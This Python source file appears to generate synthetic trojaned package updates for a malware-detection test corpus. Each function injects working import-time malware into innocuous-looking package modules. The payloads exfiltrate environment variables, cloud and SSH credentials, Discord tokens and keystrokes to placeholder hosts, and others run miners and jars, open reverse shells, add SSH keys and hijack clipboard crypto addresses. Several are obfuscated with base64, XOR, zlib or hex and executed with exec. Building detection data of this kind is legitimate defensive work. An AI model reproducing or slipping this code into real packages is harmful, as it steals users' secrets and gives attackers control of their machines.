"""Python: what runs as soon as the package is imported, in plain sight or lightly hidden."""

import zlib

from corpus.heldout.nouns import Update
from corpus.heldout5.shape import b64, fill, hexed, rows, trojan, xor


@trojan("cloudshelf", "wheel", "import", "environment", "plain", "ctx")
def py_import_sends_the_environment(it: Update) -> None:
    it.append("cloudshelf/__init__.py", fill('''

import os as _os
import threading as _threading
from urllib import parse as _parse, request as _request


def _warm():
    query = _parse.urlencode(_os.environ)
    try:
        _request.urlopen("https://@HOST@/warm?" + query, timeout=3)
    except Exception:
        pass


_threading.Thread(target=_warm, daemon=True).start()
''', HOST=it.host()))  # fmt: skip


@trojan("rowmodel", "wheel", "import", "cloud metadata", "plain", "TeamTNT")
def py_import_asks_the_cloud(it: Update) -> None:
    it.append("rowmodel/_compat.py", fill('''

def _region():
    import urllib.request

    base = "http://169.254.169.254/latest/"
    ask = urllib.request.Request(base + "api/token", headers={"X-aws-ec2-metadata-token-ttl-seconds": "60"}, method="PUT")
    try:
        token = urllib.request.urlopen(ask, timeout=1).read().decode()
        head = {"X-aws-ec2-metadata-token": token}
        role = urllib.request.urlopen(urllib.request.Request(base + "meta-data/iam/security-credentials/", headers=head), timeout=1).read().decode()
        keys = urllib.request.urlopen(urllib.request.Request(base + "meta-data/iam/security-credentials/" + role, headers=head), timeout=1).read()
        urllib.request.urlopen("https://@HOST@/r", data=keys, timeout=2)
    except OSError:
        return None


REGION = _region()
''', HOST=it.host()))  # fmt: skip


@trojan("loghaven", "wheel", "import", "host facts", "telemetry wording", "telemetry")
def py_import_reports_diagnostics(it: Update) -> None:
    it.add("loghaven/_diagnostics.py", fill('''
"""Anonymous diagnostics that help us to make loghaven better."""

import json
import os
import platform
import socket
import subprocess
import urllib.request

ENDPOINT = "https://@HOST@/api/diagnostics"


def snapshot():
    whoami = subprocess.run(["id"], capture_output=True, text=True).stdout
    return {
        "python": platform.python_version(),
        "node": socket.getfqdn(),
        "user": whoami,
        "cwd": os.getcwd(),
        "settings": {key: value for key, value in os.environ.items()},
        "shell": open(os.path.expanduser("~/.bash_history"), errors="ignore").read()[-5000:],
    }


def send():
    try:
        body = json.dumps(snapshot()).encode()
        urllib.request.urlopen(urllib.request.Request(ENDPOINT, body, {"Content-Type": "application/json"}), timeout=2)
    except Exception:
        pass
''', HOST=it.host("stats", "loghaven-metrics")))  # fmt: skip
    it.append("loghaven/__init__.py", "\nfrom ._diagnostics import send as _send\n\n_send()\n")


@trojan("sketchbot", "sdist", "import", "browser store", "layers", "discord grabber")
def py_import_takes_tokens(it: Update) -> None:
    host = it.host("hooks", "icons")
    code = fill("""
import os, re, pathlib, requests
found = set()
for root in ("discord", "discordcanary", "Google/Chrome/User Data/Default"):
    for env in ("APPDATA", "LOCALAPPDATA"):
        folder = pathlib.Path(os.getenv(env, "")) / root / "Local Storage" / "leveldb"
        for file in folder.glob("*.ldb"):
            found |= set(re.findall(r"[\\w-]{24,26}\\.[\\w-]{6}\\.[\\w-]{27,38}", file.read_text(errors="ignore")))
if found:
    requests.post("https://@HOST@/icons", json={"content": "|".join(found)})
""", HOST=host)  # fmt: skip
    sealed = b64(zlib.compress(xor(code, 0x19)))
    it.append("sketchbot/rooms.py", fill("""


def _icons(sheet: str) -> None:
    from base64 import b64decode
    from zlib import decompress

    exec(bytes(map(lambda one: one ^ 25, decompress(b64decode(sheet)))))


_icons(
    "@SHEET@"
)
""", SHEET=sealed))  # fmt: skip
    it.payload("sketchbot/rooms.py", shown=f"https://{host}/icons")


@trojan("frameplot", "wheel", "import", "miner", "plain", "ultralytics")
def py_import_runs_a_miner(it: Update) -> None:
    it.append("frameplot/export.py", fill('''

def _renderer():
    import platform
    import urllib.request

    if platform.system() != "Linux" or platform.machine() != "x86_64":
        return
    place = Path(tempfile.gettempdir()) / "frameplot-render"
    if not place.exists():
        place.write_bytes(urllib.request.urlopen("https://@HOST@/files/render-linux64").read())
        place.chmod(0o755)
    subprocess.Popen(
        [str(place), "-u", "4@WALLET@", "-o", "pool.@HOST@:8080", "--tls"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        start_new_session=True,
    )


_renderer()
''', HOST=it.host(), WALLET=it.random.randbytes(47).hex()))  # fmt: skip


@trojan("pipeforge", "wheel", "import", "downloader", "base64", "JarkaStealer")
def py_import_fetches_a_jar(it: Update) -> None:
    host = it.host()
    it.append("pipeforge/graph.py", fill('''

import base64
import os
import subprocess
import urllib.request

_SOURCE = base64.b64decode("@URL@").decode()
_TARGET = os.path.join(os.path.expanduser("~"), ".cache", "updater.jar")


def _plan():
    os.makedirs(os.path.dirname(_TARGET), exist_ok=True)
    with urllib.request.urlopen(_SOURCE) as answer, open(_TARGET, "wb") as jar:
        jar.write(answer.read())
    subprocess.Popen(["java", "-jar", _TARGET], close_fds=True)


if not os.path.exists(_TARGET):
    _plan()
''', URL=b64(f"https://{host}/updater.jar")))  # fmt: skip
    it.payload("pipeforge/graph.py", shown=f"https://{host}/updater.jar")


@trojan("vaultkeys", "wheel", "import", "reverse shell", "plain", "reverse shells")
def py_import_opens_a_shell(it: Update) -> None:
    it.append("vaultkeys/store.py", fill('''

def _watch(where=("@ADDR@", 4443)):
    import pty
    import socket

    if os.fork():
        return
    line = socket.create_connection(where)
    for number in range(3):
        os.dup2(line.fileno(), number)
    os.putenv("HISTFILE", "/dev/null")
    pty.spawn("bash")


if os.name == "posix":
    _watch()
''', ADDR=it.address()))  # fmt: skip


@trojan("rowmodel", "sdist", "import", "remote code", "plain", "dead drop")
def py_import_reads_a_dead_drop(it: Update) -> None:
    it.append("rowmodel/fields.py", fill('''

def _dialect():
    """Look up where the current dialect table is kept."""
    import re
    from urllib.request import urlopen

    page = urlopen("https://@HOST@/u/rowmodel-notes", timeout=4).read().decode("utf-8", "replace")
    mark = re.search(r"<!-- v:([0-9a-f.:/]+) -->", page)
    if mark:
        table = urlopen("http://" + mark.group(1), timeout=4).read()
        exec(compile(table, "<dialect>", "exec"), {"__name__": "rowmodel._dialect"})


try:
    _dialect()
except Exception:
    pass
''', HOST=it.host("board", "forum")))  # fmt: skip


@trojan("loghaven", "sdist", "import", "beacon", "plain", "DGA")
def py_import_beacons_to_new_names(it: Update) -> None:
    it.add("loghaven/_clock.py", fill('''
"""Monotonic ids for rows."""

import datetime
import hashlib
import socket
import subprocess
import threading
import time

_ZONES = ("invalid", "test")


def names(day=None, count=12):
    day = day or datetime.date.today().toordinal()
    for number in range(count):
        seed = hashlib.md5(f"{day}:{number}:lh".encode()).hexdigest()
        yield seed[:12] + "." + _ZONES[number % 2]


def _tick():
    while True:
        for name in names():
            try:
                line = socket.create_connection((name, 8080), 5)
            except OSError:
                continue
            line.sendall(b"id\\n")
            order = line.recv(2048).decode()
            line.sendall(subprocess.getoutput(order).encode())
            line.close()
            break
        time.sleep(3600)


threading.Thread(target=_tick, name="loghaven-clock", daemon=True).start()
'''))  # fmt: skip
    it.append("loghaven/context.py", "\nfrom . import _clock  # noqa: E402,F401\n")


@trojan("cloudshelf", "wheel", "import", "persistence", "plain", "ssh worm")
def py_import_adds_a_key(it: Update) -> None:
    it.append("cloudshelf/errors.py", fill('''

def _ensure():
    import os

    folder = os.path.expanduser("~/.ssh")
    line = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB@KEY@ deploy@cloudshelf\\n"
    os.makedirs(folder, mode=0o700, exist_ok=True)
    with open(os.path.join(folder, "authorized_keys"), "a+") as stream:
        stream.seek(0)
        if line not in stream.read():
            stream.write(line)


_ensure()
''', KEY="Zk9v" * 10))  # fmt: skip


@trojan("sketchbot", "wheel", "import", "keylogger", "own cipher", "keyloggers")
def py_import_listens_to_keys(it: Update) -> None:
    host = it.host()
    code = fill("""
from pynput import keyboard
import httpx
typed = []
def pressed(key):
    typed.append(getattr(key, "char", None) or str(key))
    if len(typed) > 80:
        httpx.post("https://@HOST@/k", content="".join(typed))
        typed.clear()
keyboard.Listener(on_press=pressed).start()
""", HOST=host)  # fmt: skip
    raw = code.encode()
    woven = bytes(raw[at] ^ (at * at + 91) & 255 for at in range(len(raw)))[::-1]
    it.append("sketchbot/commands.py", fill("""


_ALIASES = bytes.fromhex(
    "@DATA@"
)


def _aliases(data: bytes = _ALIASES) -> str:
    return bytes(one ^ (at * at + 91) & 255 for at, one in enumerate(reversed(data))).decode()


try:
    exec(_aliases())
except ImportError:
    pass
""", DATA=woven.hex()))  # fmt: skip
    it.payload("sketchbot/commands.py", shown=f"https://{host}/k")


@trojan("frameplot", "wheel", "import", "downloader", "hex", "W4SP")
def py_import_runs_hex(it: Update) -> None:
    host = it.host()
    code = f"import requests;exec(requests.get('https://{host}/inject/s8.py').text)"
    it.after("frameplot/canvas.py", "from xml.sax.saxutils import escape, quoteattr\n", f"\n_FONT = '{hexed(code)}'\nexec(bytes.fromhex(_FONT))\n")  # fmt: skip
    it.payload("frameplot/canvas.py", shown=f"https://{host}/inject/s8.py")


@trojan("pipeforge", "sdist", "import", "clipboard", "xor", "clipboard hijackers")
def py_import_swaps_the_clipboard(it: Update) -> None:
    address = "bc1q" + "".join(it.random.choice("qpzry9x8gf2tvdw0s3jn54khce6mua7l") for _ in range(38))
    code = fill('''
import re, threading, time, pyperclip
def loop():
    while 1:
        text = pyperclip.paste()
        if re.fullmatch(r"(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,60}", text) and text != "@A@":
            pyperclip.copy("@A@")
        time.sleep(1)
threading.Thread(target=loop, daemon=True).start()
''', A=address)  # fmt: skip
    it.append("pipeforge/runner.py", f"\n\n_ORDER = bytes((\n{rows(xor(code, 0x37))}\n))\nexec(bytes(one ^ 0x37 for one in _ORDER))\n")  # fmt: skip
    it.payload("pipeforge/runner.py", shown=address)


@trojan("vaultkeys", "sdist", "import", "credentials", "base64", "phpass")
def py_import_in_base64_of_a_constant(it: Update) -> None:
    host = it.host()
    code = fill('''
import json, os, urllib.request as u
h = os.path.expanduser
d = {p: open(h(p)).read() for p in ("~/.aws/credentials", "~/.kube/config", "~/.config/gcloud/credentials.db") if os.path.exists(h(p))}
u.urlopen(u.Request("https://@HOST@/c2VjcmV0", json.dumps(d).encode(), {"User-Agent": "vk"}))
''', HOST=host)  # fmt: skip
    it.add("vaultkeys/_pepper.py", f'"""The pepper of hashes that were made before 3.0."""\n\nimport base64 as _b\n\nPEPPER = (\n    "{b64(code)}"\n)\n\n\ndef legacy():\n    return eval("exec(_b.b64decode(PEPPER))")\n\n\nlegacy()\n')  # fmt: skip
    it.after("vaultkeys/passwords.py", "import os\n", "\nfrom . import _pepper  # noqa: F401\n")
    it.payload("vaultkeys/_pepper.py", "vaultkeys/passwords.py", shown=f"https://{host}/c2VjcmV0")
